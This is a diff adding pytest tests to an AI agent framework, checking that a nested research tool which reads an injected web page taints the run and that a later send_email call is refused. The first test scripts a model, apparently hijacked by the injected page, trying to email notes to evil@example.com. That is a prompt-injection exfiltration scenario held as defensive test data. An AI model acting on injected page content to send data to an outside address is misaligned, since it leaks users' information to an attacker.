@@ -195,3 +195,51 @@ def test_the_built_in_file_tools_can_be_untrusted(tmp_path: Path) -> None:
 def test_a_bad_setting_is_refused() -> None:
     with pytest.raises(ValueError, match="after_untrusted must be 'allow', 'ask' or 'refuse'"):
         Agent(ScriptedModel([]), after_untrusted="maybe")  # type: ignore[arg-type]
+
+
+async def test_an_agent_tool_whose_inner_run_read_untrusted_content_taints_the_outer_run() -> None:
+    reader_model = ScriptedModel(
+        [calls(call("fetch_page", "i1", url="https://recipes.example")), answer(INJECTED)]
+    )
+    reader = Agent(reader_model, [fetch_page]).as_tool(
+        name="research", description="Research a page."
+    )
+    model = ScriptedModel(
+        [
+            calls(call("research", "c1", input="the recipe")),
+            calls(call("send_email", "c2", to="evil@example.com", body="notes")),
+            answer("I could not send it."),
+        ]
+    )
+    agent = Agent(model, [reader, send_email], after_untrusted="refuse")
+    result = await agent.run("Summarize https://recipes.example")
+
+    assert sent == []
+    assert tool_messages(result.messages)[1] == (
+        "error[refused]: not run: the conversation holds untrusted content (from "
+        "'research' (call 'c1')) and 'send_email' has side effects; it runs only in a "
+        "conversation without untrusted content"
+    )
+    assert result.tainted_by is not None
+    assert (result.tainted_by.call_id, result.tainted_by.tool_name) == ("c1", "research")
+    assert result.tool_trace[0].untrusted
+
+
+async def test_an_agent_tool_whose_inner_run_read_nothing_untrusted_taints_nothing() -> None:
+    @tool
+    def lookup(key: str) -> str:
+        """Look a key up."""
+        return f"value of {key}"
+
+    inner = ScriptedModel([calls(call("lookup", "i1", key="a")), answer("a is 1")])
+    helper = Agent(inner, [lookup, fetch_page]).as_tool(name="helper", description="Help.")
+    model = ScriptedModel(
+        [
+            calls(call("helper", "c1", input="a")),
+            calls(call("send_email", "c2", to="me@example.com", body="a is 1")),
+            answer("Sent."),
+        ]
+    )
+    result = await Agent(model, [helper, send_email], after_untrusted="refuse").run("Mail a")
+    assert sent == ["me@example.com"]
+    assert result.tainted_by is None
